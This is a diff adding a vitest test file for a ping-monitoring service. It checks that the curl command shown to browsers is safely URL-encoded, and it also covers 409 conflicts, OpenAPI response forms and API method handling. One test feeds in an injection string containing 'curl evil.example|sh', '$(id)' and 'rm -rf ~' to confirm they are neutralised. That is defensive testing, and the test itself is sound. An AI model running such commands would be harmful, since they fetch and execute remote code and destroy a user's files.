@@ -1,0 +1,85 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { rawCall } from '../support/raw-call.ts';
+import { startTestService, type TestService } from '../support/service.ts';
+import { describe as describeApi } from './described.ts';
+
+let service: TestService;
+
+beforeAll(async () => {
+  service = await startTestService();
+});
+afterAll(() => service.stop());
+
+describe('the page that a browser gets at a ping URL', () => {
+  const opened = async (path: string) => {
+    const page = await rawCall(service.url, 'GET', path, { 'sec-fetch-mode': 'navigate' });
+    return { page, command: /<code>([\s\S]*?)<\/code>/.exec(page.text)?.[1] };
+  };
+
+  it('gives one harmless word as the URL to copy, whatever text the link carried', async () => {
+    const { command } = await opened("/in/x';curl%20evil.example|sh;$(id)`id`%0Arm%20-rf%20~&%3Cb%3E");
+
+    expect(command).toBe(
+      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/x%27%3Bcurl%20evil.example%7Csh%3B%24%28id%29%60id%60%0Arm%20-rf%20%7E%26%3Cb%3E`,
+    );
+  });
+
+  it('leaves the URL of a monitor as it is, and is not to be read as anything but HTML', async () => {
+    const { page, command } = await opened('/in/0123456789abcdefghjkmnpqrs/start');
+
+    expect(command).toBe(
+      `curl -fsS -m 10 --retry 5 -o /dev/null ${service.url}/in/0123456789abcdefghjkmnpqrs/start`,
+    );
+    expect(page.headers['x-content-type-options']).toBe('nosniff');
+  });
+});
+
+describe('two calls at the same instant', () => {
+  it('answer 409 rather than 500 when one loses against the other', async () => {
+    const alice = await service.guest();
+    const { id } = await alice.createMonitor({ alert_url: 'https://192.0.2.1.invalid/hook' });
+
+    const first = await alice.call('POST', `/api/endpoints/${id}/test-alert`);
+    const second = await alice.call('POST', `/api/endpoints/${id}/test-alert`);
+
+    expect(first.status).toBe(200);
+    expect([200, 409]).toContain(second.status);
+  });
+});
+
+describe('the OpenAPI document', () => {
+  it('says in which form the feeds refuse, and that they answer 304', async () => {
+    const { operations } = await describeApi(service);
+
+    const forms = ['showFeedPage', 'showFeedJson', 'showFeedRss', 'showFeedMetrics', 'showBadge'].map(
+      (id) => {
+        const promised = operations.find((operation) => operation.id === id)?.promised;
+        return [id, Object.keys(promised?.['404']?.content ?? {})[0], promised?.['304'] !== undefined];
+      },
+    );
+
+    expect(forms).toEqual([
+      ['showFeedPage', 'text/html; charset=utf-8', true],
+      ['showFeedJson', 'application/json', true],
+      ['showFeedRss', 'application/rss+xml; charset=utf-8', true],
+      ['showFeedMetrics', 'text/plain; version=0.0.4; charset=utf-8', true],
+      ['showBadge', 'image/svg+xml; charset=utf-8', true],
+    ]);
+  });
+});
+
+describe('the index of the API', () => {
+  it.each(['POST', 'PUT', 'TRACE'])('answers 405 to %s', async (method) => {
+    const { status, headers } = await rawCall(service.url, method, '/api/');
+
+    expect([status, headers['allow']]).toEqual([405, 'GET, HEAD, OPTIONS']);
+  });
+
+  it('lets a browser ask beforehand whether it may be read from another site', async () => {
+    const { status, headers } = await rawCall(service.url, 'OPTIONS', '/api/', {
+      origin: 'https://a.example',
+    });
+
+    expect([status, headers['access-control-allow-origin']]).toEqual([204, '*']);
+  });
+});
